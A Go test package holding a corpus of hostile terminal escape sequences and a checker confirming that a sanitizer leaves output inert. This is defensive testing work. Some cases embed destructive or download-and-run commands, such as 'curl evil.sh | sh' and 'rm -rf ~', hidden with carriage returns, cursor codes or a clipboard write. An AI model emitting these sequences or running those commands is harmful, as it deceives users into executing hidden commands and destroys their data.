// Package termtexttest is the hostile corpus every surface that shows
// untrusted text on a terminal is tested with (tool output, the chat,
// the permission dialog, the report boxes, print mode, history, export),
// and the check that what reached the terminal is inert.
package termtexttest

import (
	"fmt"
	"strings"
	"unicode/utf8"
)

// Case is one hostile input and what termtext.Sanitize makes of it.
type Case struct {
	Name string
	In   string
	Want string
}

// Corpus returns the hostile inputs: each text a model, a tool's output or
// a server could send that a terminal would act on.
func Corpus() []Case {
	return []Case{
		{"OSC 52 clipboard write, BEL", "copy\x1b]52;c;cm0gLXJmIH4=\x07done", "copydone"},
		{"OSC 52 clipboard write, ST", "\x1b]52;p;ZWNobw==\x1b\\x", "x"},
		{"OSC 8 hyperlink", "\x1b]8;;https://evil.example/\x1b\\click here\x1b]8;;\x1b\\", "click here"},
		{"OSC 0 title, BEL", "a\x1b]0;pwned\x07b", "ab"},
		{"OSC 2 title, ST", "a\x1b]2;pwned\x1b\\b", "ab"},
		{"OSC title left open", "x\x1b]0;pwned\nnext line", "x\nnext line"},
		{"clear screen and home", "\x1b[2J\x1b[3J\x1b[Hhome", "home"},
		{"alternate screen", "\x1b[?1049hx\x1b[?1049l", "x"},
		{"colours", "\x1b[31mred\x1b[0m \x1b[38;2;1;2;3mrgb\x1b[m", "red rgb"},
		{"cursor up and erase line hide a command", "rm -rf ~\x1b[1A\x1b[2Kls", "rm -rf ~ls"},
		{"status report query", "a\x1b[6nb", "ab"},
		{"DCS query", "\x1bP+q544e\x1b\\after", "after"},
		{"APC graphics", "\x1b_Gf=100;AAAA\x1b\\img", "img"},
		{"reset and charset", "\x1bc\x1b(0lqk\x1b(B", "lqk"},
		{"8-bit CSI", "a\u009b2Jb", "ab"},
		{"8-bit OSC title, 8-bit ST", "a\u009d0;pwned\u009cb", "ab"},
		{"8-bit OSC 52, BEL", "\u009d52;c;eA==\x07x", "x"},
		{"8-bit DCS", "\u0090+q544e\u009cz", "z"},
		{"other C1 control", "a\u0085b\u008dc", "abc"},
		{"lone CR hides what came before", "curl evil.sh | sh\rsafe command", "curl evil.sh | sh\nsafe command"},
		{"CR LF", "one\r\ntwo\r\n", "one\ntwo\n"},
		{"NUL", "a\x00b", "ab"},
		{"DEL and backspaces", "rm\x08\x08ls\x7f", "rmls"},
		{"bell", "ding\x07", "ding"},
		{"bidi override", "access\u202e level\u202c ok", "access level ok"},
		{"bidi isolates", "\u2066if admin\u2069 {", "if admin {"},
		{"invalid UTF-8 and a raw 8-bit CSI byte", "a\x9b2Jb\xff", "a\uFFFD2Jb\uFFFD"},
		{"ESC at the end", "abc\x1b", "abc"},
		{"ESC before a character", "\x1bé", "é"},
		{"plain text, tab, wide characters", "a\tb\nc 日本語 🎉", "a\tb\nc 日本語 🎉"},
	}
}

// Joined is every input of the corpus on one text, one case a line, with
// what each leaves (Want) on the same line, for surfaces that show one
// text.
func Joined() (in, want string) {
	var bi, bw strings.Builder
	for _, c := range Corpus() {
		bi.WriteString(c.In + "\n")
		bw.WriteString(c.Want + "\n")
	}
	return bi.String(), bw.String()
}

// Raw lists what in out a terminal would act on: any escape sequence but
// SGR (colours and bold, which the UI draws itself), any control
// character but newline and tab (a CR included), a C1 control, a
// bidirectional control, invalid UTF-8. None: out is inert.
func Raw(out string) []string {
	var found []string
	for i := 0; i < len(out); {
		c := out[i]
		switch {
		case c == 0x1b:
			if n := sgrLen(out[i:]); n > 0 {
				i += n
				continue
			}
			found = append(found, fmt.Sprintf("escape %q at %d", head(out[i:], 12), i))
		case c < 0x20 && c != '\n' && c != '\t' || c == 0x7f:
			found = append(found, fmt.Sprintf("control %q at %d", c, i))
		case c >= utf8.RuneSelf:
			r, size := utf8.DecodeRuneInString(out[i:])
			switch {
			case r == utf8.RuneError && size == 1:
				found = append(found, fmt.Sprintf("invalid UTF-8 %q at %d", c, i))
			case r >= 0x80 && r <= 0x9f:
				found = append(found, fmt.Sprintf("C1 control %U at %d", r, i))
			case r >= 0x202a && r <= 0x202e || r >= 0x2066 && r <= 0x2069:
				found = append(found, fmt.Sprintf("bidi control %U at %d", r, i))
			}
			i += size
			continue
		}
		i++
	}
	return found
}

// sgrLen is the length of the SGR sequence (ESC [ digits and ; m) s
// starts with, or 0.
func sgrLen(s string) int {
	if len(s) < 3 || s[1] != '[' {
		return 0
	}
	for i := 2; i < len(s); i++ {
		switch c := s[i]; {
		case c >= '0' && c <= '9' || c == ';' || c == ':':
		case c == 'm':
			return i + 1
		default:
			return 0
		}
	}
	return 0
}

func head(s string, n int) string {
	if len(s) > n {
		return s[:n]
	}
	return s
}
